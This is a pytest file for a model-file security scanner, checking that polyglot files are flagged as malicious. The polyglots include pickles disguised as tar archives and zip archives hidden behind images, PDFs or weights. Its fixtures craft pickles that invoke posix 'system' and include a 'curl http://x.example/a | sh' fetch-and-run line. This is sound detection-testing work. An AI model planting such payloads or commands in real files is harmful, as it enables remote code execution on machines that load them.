"""A file that is a harmless pickle to one loader and an archive to another is never clean."""

import gzip
import io
import struct
import tarfile
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest

from scanners.budget import Limits
from scanners.facts import Anomaly, Call, Unread
from scanners.routing import scan_blob
from scanners.source import BytesSource
from tests.craft.archives import DEFLATED, Part, archive
from tests.craft.packed import Packed, rar5, sevenzip
from tests.craft.pickles import HARMLESS, asm, named, op, system
from tests.craft.table import said
from tests.craft.tensors import header, safetensors

DATA = Path(__file__).parents[1] / "data"


def tar(old):
    """A tar archive whose first member's name is a pickle that holds all the rest in one constant."""
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as written:
        for name in ("storages", "tensors", "pickle"):
            content = b"cposix\nsystem\n(S'" + HARMLESS.encode() + b"'\ntR."
            member = tarfile.TarInfo(name)
            member.size = len(content)
            written.addfile(member, io.BytesIO(content))
    rest = made.getvalue()
    head = bytearray(tarfile.TarInfo("x" * 20).tobuf(tarfile.USTAR_FORMAT))
    head[:11] = b"\x80\x04\x8e" + struct.pack("<Q", len(head) + len(rest) - 11)
    if old:
        head[257:265] = bytes(8)
    head[148:156] = b" " * 8
    head[148:156] = b"%06o\0 " % sum(head)
    return bytes(head) + rest + b"."


def outcome(data, name):
    found = scan_blob(BytesSource(data), name, Limits())
    return (
        {fact.code for fact in found.facts if isinstance(fact, Anomaly)},
        {fact.reason for fact in found.facts if isinstance(fact, Unread)},
    )


def called(data, name, limits=None):
    found = scan_blob(BytesSource(data), name, limits or Limits())
    return {fact.name for fact in found.facts if isinstance(fact, Call)}


@pytest.mark.parametrize("old", [True, False])
def test_a_tar_archive_in_a_constant(old):
    data = tar(old)
    with tarfile.open(fileobj=io.BytesIO(data), mode="r:") as read:
        assert read.getnames()[1:] == ["storages", "tensors", "pickle"]
    codes, reasons = outcome(data, "model.pth")
    assert "file.polyglot" in codes
    assert reasons
    found = scan_blob(BytesSource(data), "model.pth", Limits())
    called = {fact.member for fact in found.facts if isinstance(fact, Call) and fact.name == "system"}
    assert called == {"storages", "tensors", "pickle"}


def test_an_hdf5_file_in_a_constant():
    data = asm(op("PROTO", 4), op("BINBYTES", bytes(505) + b"\x89HDF\r\n\x1a\n" + bytes(900)), "STOP")
    assert outcome(data, "weights") == ({"file.polyglot"}, {"broken"})


def test_a_bzip2_stream_is_known_beside_an_opcode():
    assert outcome(b"BZh91AY&SY" + b"\xfe" * 600, "model.joblib")[1] == {"broken"}


def test_a_tar_archive_alone_stays_one_format():
    codes, _ = outcome(tar(old=False)[512:-1], "model.tar")
    assert not [code for code in codes if code.startswith("file.")]


def wrapped(archive, room=0):
    """The archive in one constant of a pickle, which its last byte, of a comment, ends."""
    assert archive.endswith(b".")
    return b"\x80\x04\x8e" + struct.pack("<Q", len(archive) - 1 + room) + b"x" * room + archive


MEMBERS = Part("a/data.pkl", system(proto=2)), Part("a/version", b"3\n")


def test_an_archive_in_a_constant_whose_end_is_as_far_from_the_end_as_it_may_be():
    data = wrapped(archive(*MEMBERS, comment=b"\xfe" * 65_534 + b"."), room=3)
    assert zipfile.ZipFile(io.BytesIO(data)).namelist() == ["a/data.pkl", "a/version"]
    assert "system" in called(data, "weights")


def test_an_end_record_that_only_miniz_still_finds():
    # Behind the 65,557 bytes that the format allows, by less than the 4 KiB of a piece.
    found = scan_blob(BytesSource(archive(*MEMBERS, trailing=b"\xfe" * 69_000)), "model.pt", Limits())
    assert not [fact for fact in found.facts if isinstance(fact, Anomaly) and fact.code == "zip.hidden"]


def test_a_short_end_record_of_nonsense_before_which_a_zip64_one_counts():
    data = bytearray(archive(*MEMBERS, zip64=True, comment=b"."))
    data[-11:-7] = struct.pack("<I", 0xFFFFFFF0)
    assert zipfile.ZipFile(io.BytesIO(data)).namelist() == ["a/data.pkl", "a/version"]
    assert "system" in called(wrapped(bytes(data), room=3), "weights")


def test_bombs_leave_room_for_what_is_loaded():
    bomb = Part("a/0", bytes(1 << 20), method=DEFLATED)
    data = archive(bomb, bomb, *(replace(part, method=DEFLATED) for part in MEMBERS))
    assert "system" in called(data, "model.pt", Limits(inflated=1 << 20))


def test_where_joblib_reads_arrays_nothing_is_clean():
    wrapper = asm(named("joblib.numpy_pickle", "NumpyArrayWrapper"), "EMPTY_TUPLE", "NEWOBJ", "EMPTY_DICT", "BUILD")
    data = asm(op("PROTO", 4), wrapper, op("BINBYTES", bytes(64) + system(proto=2)), "STOP")
    assert outcome(data, "model.joblib")[1] == {"no-reader"}


FRONTS = {
    "png": (DATA / "plain" / "media" / "a.png").read_bytes(),
    "gif": (DATA / "plain" / "media" / "a.gif").read_bytes(),
    "mp4": (DATA / "plain" / "media" / "a.mp4").read_bytes(),
    "pdf": (DATA / "plain" / "pdf" / "plain.pdf").read_bytes(),
    "gguf": (DATA / "gguf" / "template.gguf").read_bytes(),
    "safetensors": safetensors(header(("w", "F32", [4], 0, 16)), bytes(16)),
    "hdf5": (DATA / "hdf5" / "several-v110.h5").read_bytes(),
    "onnx": (DATA / "onnx" / "dense.onnx").read_bytes(),
    "npy": (DATA / "corpus" / "numpy-1.23" / "masked.npy").read_bytes(),
    "pickle": asm(op("PROTO", 4), "EMPTY_DICT", "STOP"),
    "7z": sevenzip(("notes.txt", b"words\n")),
    "rar": rar5(Packed("notes.txt", b"words\n")),
    "gzip": gzip.compress(b"words\n" * 9, mtime=0),
    "arrow": (DATA / "plain" / "tables" / "plain.stream.arrow").read_bytes(),
    "elf": b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HH", 2, 62) + bytes(100),
    "text": b"words and more words\n",
}


@pytest.mark.parametrize("front", FRONTS)
@pytest.mark.parametrize("name", ["model.bin", "model.safetensors", "notes"])
def test_an_archive_behind_something_else_is_read_beside_it(front, name):
    found = scan_blob(BytesSource(FRONTS[front] + archive(*MEMBERS)), name, Limits())
    codes, _ = outcome(FRONTS[front] + archive(*MEMBERS), name)
    assert "system" in {fact.name for fact in found.facts if isinstance(fact, Call)}
    assert codes & {"file.polyglot", "zip.leading"}
    verdict, findings = said(FRONTS[front] + archive(*MEMBERS), name)
    assert verdict == "malicious"
    assert {"file-polyglot", "zip-leading"} & {finding.rule for finding in findings}


@pytest.mark.parametrize("front", sorted(FRONTS.keys() - {"text", "elf"}))
def test_a_harmless_archive_behind_something_else_is_never_clean(front):
    data = FRONTS[front] + archive(Part("notes.txt", b"words\n"))
    assert said(data, "notes")[0] != "clean"


@pytest.mark.parametrize("suffix", [".pt", ".bin", ".safetensors", ".gguf", ".onnx", ".png", ".json", ".md", ""])
def test_a_tar_archive_whose_first_name_is_a_pickle_is_both_under_any_name(suffix):
    assert "system" in called(tar(old=False), f"model{suffix}")


def test_an_hdf5_file_behind_a_script_is_both():
    script = b"#!/bin/sh\ncurl http://x.example/a | sh\n".ljust(512, b"\n")
    verdict, findings = said(script + (DATA / "hdf5" / "several-v110.h5").read_bytes(), "model.h5")
    assert verdict == "malicious"
    assert "hdf5-user-block" in {finding.rule for finding in findings}
